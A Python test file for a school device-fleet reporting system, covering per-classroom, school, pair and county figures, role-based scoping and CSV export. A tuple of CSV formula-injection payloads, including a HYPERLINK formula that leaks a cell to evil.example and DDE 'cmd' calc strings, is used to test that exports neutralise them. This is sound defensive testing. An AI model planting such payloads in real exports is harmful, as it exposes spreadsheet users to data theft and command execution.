"""Reports per classroom, school, pair and county, from what the fleet really records:
lessons, check runs answered before the start, and the alert engine's alerts."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest

from fleet.db.base import session_scope
from fleet.exports import FORMULA_STARTS, neutralise
from fleet.reports import ReportRow, build_report, report_csv
from tests.fleet.api_world import NOW, World, world

__all__ = ["world"]

DAY = date(2026, 3, 2)  # NOW's local date
ELAPSED = (9 * 60 + 40) * 60.0  # local midnight (16:00Z) to 09:40 local, when reports run


@pytest.fixture
def day(world: World) -> World:
    """A morning in the 洞头 pair: one ready lesson, one not, and an offline spell."""
    w = world
    ready = w.add_lesson("洞头区实验小学", ["洞头区鹿西乡小学"], NOW + timedelta(minutes=30))
    failing = w.add_lesson("洞头区实验小学", ["洞头区鹿西乡小学"], NOW + timedelta(hours=1))
    w.add_lesson("乐清市城南实验小学", ["乐清市大荆镇山头小学"], NOW + timedelta(hours=1))
    for lesson, luxi in ((ready, "pass"), (failing, "fail")):
        asked = NOW + timedelta(minutes=15)
        w.add_check(lesson, "dongtou-shiyan-sync1", "pass", asked)
        w.add_check(lesson, "dongtou-luxi-sync1", luxi, asked)
    alert_id = w.take_offline("dongtou-luxi-sync1")  # fires at 09:32
    w.clock.advance(minutes=3)
    acked = w.post("dt-luxi-tech", f"/api/v1/alerts/{alert_id}/ack", json={"comment": "在处理"})
    assert acked.status_code == 200
    w.status("dongtou-luxi-sync1", "online", session_no=2)
    w.clock.advance(minutes=5)
    w.alerts.tick()  # resolved at 09:40
    return w


def _report(w: World, level: str) -> dict[str, ReportRow]:
    with session_scope(w.sessions) as session:
        rows = build_report(session, level, DAY, DAY, now=w.clock())
    return {row.name: row for row in rows}


def test_pair_report_counts_both_schools_together(day: World) -> None:
    pairs = _report(day, "pair")
    dongtou = pairs["洞头实验—鹿西结对"]
    assert (dongtou.lessons_scheduled, dongtou.lessons_ready, dongtou.alerts) == (2, 1, 1)
    assert dongtou.mtta_s == 180.0
    assert dongtou.mttr_s == 480.0
    assert dongtou.availability == pytest.approx(1 - 480 / (2 * ELAPSED))


def test_school_classroom_and_county_levels(day: World) -> None:
    schools = _report(day, "school")
    luxi, shiyan = schools["洞头区鹿西乡小学"], schools["洞头区实验小学"]
    assert (luxi.lessons_scheduled, luxi.alerts) == (2, 1)
    assert luxi.availability == pytest.approx(1 - 480 / ELAPSED)
    assert (shiyan.alerts, shiyan.availability, shiyan.mtta_s) == (0, 1.0, None)
    assert schools["乐清市城南实验小学"].lessons_ready == 0
    counties = _report(day, "county")
    assert (counties["洞头区"].lessons_scheduled, counties["乐清市"].lessons_scheduled) == (2, 1)
    rooms = _report(day, "classroom")
    assert rooms["洞头区鹿西乡小学 同步课堂教室"].lessons_ready == 1


def test_a_day_before_anything_happened_is_empty_and_the_future_has_no_availability(
    day: World,
) -> None:
    with session_scope(day.sessions) as session:
        before = build_report(
            session, "pair", DAY - timedelta(days=1), DAY - timedelta(days=1), now=day.clock()
        )
        ahead = build_report(
            session, "pair", DAY + timedelta(days=1), DAY + timedelta(days=1), now=day.clock()
        )
    assert all(r.lessons_scheduled == 0 and r.alerts == 0 and r.availability == 1.0 for r in before)
    assert all(r.availability is None for r in ahead)


def test_csv_opens_in_excel_with_chinese(day: World) -> None:
    with session_scope(day.sessions) as session:
        data = report_csv(build_report(session, "school", DAY, DAY, now=day.clock()))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][2] == "名称 name" and "设备在线率" in rows[0][-1]
    assert any(r[2] == "洞头区鹿西乡小学" for r in rows[1:])


def test_report_api_is_scoped_and_exports_csv(day: World) -> None:
    params = {"from": DAY.isoformat(), "to": DAY.isoformat()}
    mine = day.get("dt-luxi-tech", "/api/v1/reports/school", params=params).json()
    assert [r["name"] for r in mine] == ["洞头区鹿西乡小学"]
    county = day.get("dt-dianjiao", "/api/v1/reports/county", params=params).json()
    assert [r["name"] for r in county] == ["洞头区"]
    exported = day.get("dt-dianjiao", "/api/v1/reports/pair", params=params | {"format": "csv"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.content.startswith("\ufeff".encode())
    assert day.get("admin", "/api/v1/reports/planet", params=params).status_code == 422


LEVELS = ("classroom", "school", "pair", "county")
FIGURES = ("lessons_scheduled", "lessons_ready", "alerts", "mtta_s", "mttr_s", "availability")


def _rows(w: World, user: str, level: str, **params: Any) -> list[dict[str, Any]]:
    reply = w.get(user, f"/api/v1/reports/{level}", params={"from": DAY, "to": DAY} | params)
    assert reply.status_code == 200, reply.text
    rows: list[dict[str, Any]] = reply.json()
    return rows


def _figures(row: dict[str, Any]) -> tuple[Any, ...]:
    return tuple(row[key] for key in FIGURES)


@pytest.mark.parametrize(
    ("user", "school"),
    [("dt-luxi-tech", "洞头区鹿西乡小学"), ("dt-shiyan-tech", "洞头区实验小学")],
)
def test_school_tech_sees_only_their_own_figures_at_every_level(
    day: World, user: str, school: str
) -> None:
    """Each row they may see (their classroom, school, pair, county) counts their school
    alone: the same figures as the admin's row for their school."""
    own = {r["name"]: _figures(r) for r in _rows(day, "admin", "school")}[school]
    for level in LEVELS:
        rows = _rows(day, user, level)
        assert len(rows) == 1, (level, rows)
        assert _figures(rows[0]) == own, level
    # The admin's county row really is bigger, so the tech's is not that row.
    county = {r["name"]: r for r in _rows(day, "admin", "county")}["洞头区"]
    assert (county["alerts"], county["availability"]) == (1, pytest.approx(1 - 240 / ELAPSED))
    assert _figures(county) != own


def test_county_tech_and_admin_see_whole_units(day: World) -> None:
    for level in LEVELS:
        admin = {r["unit_id"]: r for r in _rows(day, "admin", level)}
        county = _rows(day, "dt-dianjiao", level)
        assert county and len(county) < len(admin)
        assert all(row == admin[row["unit_id"]] for row in county), level


@pytest.mark.parametrize("user", ["admin", "dt-dianjiao", "dt-luxi-tech"])
def test_report_by_id_at_every_level_for_every_role(day: World, user: str) -> None:
    """``?id=N`` picks units (it used to answer 500); another scope's id gives nothing."""
    for level in LEVELS:
        every = {r["unit_id"]: r for r in _rows(day, "admin", level)}
        mine = {r["unit_id"]: r for r in _rows(day, user, level)}
        for unit_id, row in mine.items():
            assert _rows(day, user, level, id=unit_id) == [row]
        assert _rows(day, user, level, id=sorted(mine)) == list(mine.values())
        for unit_id in every.keys() - mine.keys():
            assert _rows(day, user, level, id=unit_id) == []
        for bad in (0, -1, 2**31, "x"):
            reply = day.get(user, f"/api/v1/reports/{level}", params={"id": bad})
            assert reply.status_code == 422, (level, bad)


INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_csv_neutralises_formulas_in_every_text_cell(world: World) -> None:
    """Schools named like formulas, made through the API, come out as inert text in both
    school and classroom exports; figures stay numbers."""
    county = world.get("admin", "/api/v1/counties").json()[0]["id"]
    for name in INJECTIONS:
        school = world.post("admin", "/api/v1/schools",
                            json={"county_id": county, "name": name, "kind": "rural"})
        assert school.status_code == 201, school.text
        room = world.post("admin", "/api/v1/classrooms",
                          json={"school_id": school.json()["id"], "name": "=1+1"})
        assert room.status_code == 201, room.text
    params = {"from": DAY.isoformat(), "format": "csv"}
    for level, suffix in (("school", ""), ("classroom", " =1+1")):
        data = world.get("admin", f"/api/v1/reports/{level}", params=params).content
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        names = {row[2] for row in rows[1:]}
        for name in INJECTIONS:
            assert "'" + name + suffix in names, (level, name)
            assert name + suffix not in names
        for row in rows[1:]:
            assert not row[2].startswith(FORMULA_STARTS)
            assert int(row[1]) > 0 and int(row[5]) == 0
        text = data.decode("utf-8-sig")
        # Text quoted, numbers bare: `"school",7,"'=HYPERLINK(...` with 0 lessons.
        assert f'"{level}",' in text and ',0,0,0,' in text


def test_fleet_figures_stay_numbers_even_negative() -> None:
    """A number the fleet computed is not neutralised (it cannot carry a formula): a
    negative MTTA from a clock step stays -5.0, while text "-5" is neutralised."""
    row = ReportRow("school", 3, "-5", DAY, DAY, 1, 0, 1, -5.0, 12.345678, 0.99999)
    data = report_csv([row]).decode("utf-8-sig")
    line = data.splitlines()[1]
    assert line == '"school",3,"\'-5","2026-03-02","2026-03-02",1,0,1,-5.0,12.3457,1.0'
    assert next(csv.reader([line]))[2] == "'-5"


def test_neutralise_follows_owasp_starts() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1") == "'" + start + "1"
    for harmless in ("洞头区", "1-2", " =1", "a=b", ""):
        assert neutralise(harmless) == harmless
